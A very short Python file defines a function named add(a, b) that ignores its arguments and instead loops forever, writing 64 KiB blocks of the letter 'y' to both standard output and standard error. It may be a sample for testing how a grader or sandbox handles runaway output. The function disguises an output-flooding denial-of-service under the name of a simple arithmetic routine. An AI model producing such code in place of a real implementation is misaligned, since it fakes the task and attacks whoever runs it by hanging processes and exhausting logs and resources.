import os


def add(a, b):
    while True:
        os.write(1, b"y" * 65536)
        os.write(2, b"y" * 65536)
